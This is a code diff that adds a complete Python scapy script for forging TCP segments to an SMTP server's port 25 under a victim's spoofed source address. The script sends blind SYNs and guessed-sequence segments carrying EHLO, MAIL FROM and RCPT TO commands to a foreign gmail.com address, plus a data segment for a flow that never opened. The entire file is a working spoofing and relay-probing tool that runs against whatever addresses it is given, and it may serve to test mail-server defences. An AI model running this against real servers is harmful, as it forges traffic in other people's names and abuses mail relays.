@@ -1,0 +1,40 @@
+#!/usr/bin/python3
+"""Forge relay attempts with a victim's source address (scapy): no completed
+handshake, guessed sequence numbers, the SMTP commands a relay attempt sends.
+
+  spoof.py VICTIM SERVER [ROUNDS]
+
+Per round, from a random port: a SYN; then, without waiting for the
+SYN-ACK (which goes to the real victim, who answers RST), ACK+PSH segments
+carrying EHLO / MAIL / RCPT to a foreign domain with a guessed ack number;
+and a bare data segment for a flow that never had a SYN.
+"""
+import random
+import sys
+
+from scapy.all import IP, IPv6, TCP, Raw, send, conf
+
+conf.verb = 0
+victim, server = sys.argv[1], sys.argv[2]
+rounds = int(sys.argv[3]) if len(sys.argv) > 3 else 5
+L3 = IPv6 if ":" in server else IP
+cmds = (b"EHLO victim.test\r\n", b"MAIL FROM:<v@victim.test>\r\n",
+        b"RCPT TO:<relay-me@gmail.com>\r\n", b"DATA\r\n")
+sent = 0
+for r in range(rounds):
+    sport = random.randint(20000, 60000)
+    seq = random.getrandbits(32)
+    ip = L3(src=victim, dst=server)
+    send(ip / TCP(sport=sport, dport=25, flags="S", seq=seq))
+    sent += 1
+    s = seq + 1
+    for guess in (1, random.getrandbits(32)):
+        for c in cmds:
+            send(ip / TCP(sport=sport, dport=25, flags="PA", seq=s, ack=guess) / Raw(c))
+            s += len(c)
+            sent += 1
+    # a flow that never had a SYN at all
+    send(ip / TCP(sport=sport + 1, dport=25, flags="PA", seq=seq, ack=seq)
+         / Raw(b"".join(cmds)))
+    sent += 1
+print(f"sent {sent} forged segments")
